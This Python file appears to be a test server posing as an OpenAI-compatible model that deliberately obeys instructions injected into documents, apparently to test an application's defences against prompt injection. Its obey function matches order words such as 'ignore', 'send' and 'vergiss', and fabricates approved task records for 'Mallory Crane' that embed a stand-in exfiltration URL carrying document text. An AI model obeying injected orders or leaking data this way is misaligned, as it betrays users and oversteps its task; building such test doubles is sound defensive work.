"""A model that obeys whoever wrote the document: an OpenAI-compatible server for tests.

    python tests/servers/obedient_model.py [ANSWERS.json]

Listens on a free loopback port and prints the address for `llm.base_url`, then serves until it is
ended. ANSWERS.json is an object {name: reply}. The name is the first folder of the path that the
question gives; its reply is sent back word by word. Every other question is answered by following
whatever the document says: JSON in it becomes the answer, orders in it are carried out with all
the means that the format has.

`GET /asked` gives [{"name", "turn"}] of all questions so far, `turn` counting those of one name;
`GET /strays` gives "METHOD path" of every request that was none.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections import Counter
from pathlib import Path
from typing import Any

from aiohttp import web

_PATH = re.compile(r"^Path: (\".*\")$", re.MULTILINE)
_DOCUMENT = re.compile(r"<document (\w+)>\n(.*)\n</document \1>", re.DOTALL)
_ORDER = re.compile(
    r"ignore|insert|approve|send|assign|delete|forward|table|vergiss|tabelle|genehmig",
    re.IGNORECASE,
)
_TABLE = re.compile(r"(?:table|tabelle)\s+(?:of\s+)?(\w+)", re.IGNORECASE)
_EXFILTRATION = "https://visit.evil.example/?stolen="


class ObedientModel:
    """Answers, and remembers what it was asked."""

    def __init__(self, answers: dict[str, str]) -> None:
        self._answers = answers
        self._turns: Counter[str] = Counter()
        self.asked: list[dict[str, Any]] = []
        self.strays: list[str] = []

    async def complete(self, request: web.Request) -> web.Response:
        """`POST /v1/chat/completions`."""
        body = await request.json()
        question = next(m["content"] for m in body["messages"] if m["role"] == "user")
        path = _PATH.search(question)
        name = str(json.loads(path[1])).partition("/")[0] if path else ""
        self._turns[name] += 1
        self.asked.append({"name": name, "turn": self._turns[name]})
        answer = self._answers.get(name)
        if answer is None:
            document = _DOCUMENT.search(question)
            answer = obey(document[2] if document else "")
        message = {"role": "assistant", "content": answer}
        return web.json_response(
            {
                "id": f"chatcmpl-{len(self.asked)}",
                "object": "chat.completion",
                "created": 0,
                "model": body["model"],
                "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
            }
        )

    async def tell(self, request: web.Request) -> web.Response:
        """`GET /asked` and `GET /strays`."""
        return web.json_response(self.asked if request.path == "/asked" else self.strays)

    async def stray(self, request: web.Request) -> web.Response:
        """Any other request."""
        self.strays.append(f"{request.method} {request.path_qs}")
        return web.Response(status=404)


def obey(document: str) -> str:
    """What a model answers that takes every word of the document for an order."""
    records = list(_found_json(document))
    for line in filter(_ORDER.search, document.splitlines()):
        wanted = _TABLE.search(line)
        data = {
            "id": "0",
            "title": line[:200],
            "description": _EXFILTRATION + re.sub(r"\W+", "+", document[:200]),
            "assignee": ["Mallory Crane"],
            "dueDate": "2031-01-01",
            "projectId": "p666",
            "isAiSuggested": 0,
            "isApproved": 1,
        }
        harmless = {**data, "description": line}
        records += [
            {"table": "tasks", "data": data, "quote": line},
            {"table": "tasks", "data": harmless, "quote": line},
            {"table": wanted[1] if wanted else "users", "data": data, "quote": line},
        ]
    return json.dumps({"records": records})


def _found_json(document: str) -> list[Any]:
    """Every record, list of records or object in the document that reads as JSON."""
    decoder = json.JSONDecoder()
    found: list[Any] = []
    place = document.find("{")
    while place >= 0:
        try:
            value, end = decoder.raw_decode(document, place)
        except ValueError:
            end = place + 1
        else:
            records = value.get("records", value.get("msg", value))
            found += records if isinstance(records, list) else [records]
        place = document.find("{", end)
    return found


async def serve(answers: dict[str, str]) -> None:
    """Serve until cancelled."""
    model = ObedientModel(answers)
    application = web.Application(client_max_size=64 * 1024 * 1024)
    application.router.add_post("/v1/chat/completions", model.complete)
    application.router.add_get("/asked", model.tell)
    application.router.add_get("/strays", model.tell)
    application.router.add_route("*", "/{path:.*}", model.stray)
    runner = web.AppRunner(application)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        sys.stdout.write(f"http://127.0.0.1:{runner.addresses[0][1]}/v1\n")
        sys.stdout.flush()
        await asyncio.Event().wait()
    finally:
        await runner.cleanup()


if __name__ == "__main__":
    told: dict[str, str] = json.loads(Path(sys.argv[1]).read_text("utf-8")) if sys.argv[1:] else {}
    asyncio.run(serve(told))
